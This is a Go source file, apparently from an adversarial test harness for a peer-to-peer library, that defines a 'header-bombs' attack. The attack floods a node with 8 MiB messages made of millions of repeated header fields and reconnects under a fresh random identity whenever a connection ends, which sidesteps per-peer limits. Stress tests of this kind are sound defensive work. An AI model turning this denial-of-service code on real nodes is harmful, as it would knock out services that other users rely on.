package product

import (
	"bytes"
	"context"
	"crypto/rand"
	"sync/atomic"

	"google.golang.org/protobuf/encoding/protowire"

	"github.com/gamelan-p2p/gamelan"
	"github.com/gamelan-p2p/gamelan/dht"
	"github.com/gamelan-p2p/gamelan/identity"
	"github.com/gamelan-p2p/gamelan/protocol/messaging"
)

// maxBody is the longest message that a node reads.
const maxBody = 8 << 20

// headerBombs sends messages of 8 MiB that are two million header fields, each of
// which a reader of the format adds to the ones before. A stroke is a message.
func headerBombs() attack {
	return attack{
		name: "header-bombs", config: gamelan.Config{DHT: &gamelan.DHTConfig{}},
		prepare: func(_ context.Context, seed string) (func(context.Context, *atomic.Uint64) error, error) {
			piece := protowire.AppendBytes(protowire.AppendTag(nil, 1, protowire.BytesType), dht.DomainHeader{Type: 2}.Append(nil))
			bomb := []messaging.Entry[struct{}]{{Body: bytes.Repeat(piece, maxBody/len(piece))}}
			return func(ctx context.Context, count *atomic.Uint64) error {
				return again(ctx, seed, func(w *writer) error {
					_, err := messaging.WriteFrames(w.stream, bomb)
					if err == nil {
						count.Add(1)
					}
					return err
				})
			}, nil
		},
	}
}

// again strikes on one connection, as another identity each time that the last
// connection ended. It fails if it cannot connect.
func again(ctx context.Context, seed string, strike func(w *writer) error) error {
	for ctx.Err() == nil {
		secret, err := identity.NewSecret(rand.Reader)
		if err != nil {
			return err
		}
		w, err := dial(seed, secret)
		if err != nil {
			return err
		}
		for ctx.Err() == nil && strike(w) == nil {
		}
	}
	return nil
}
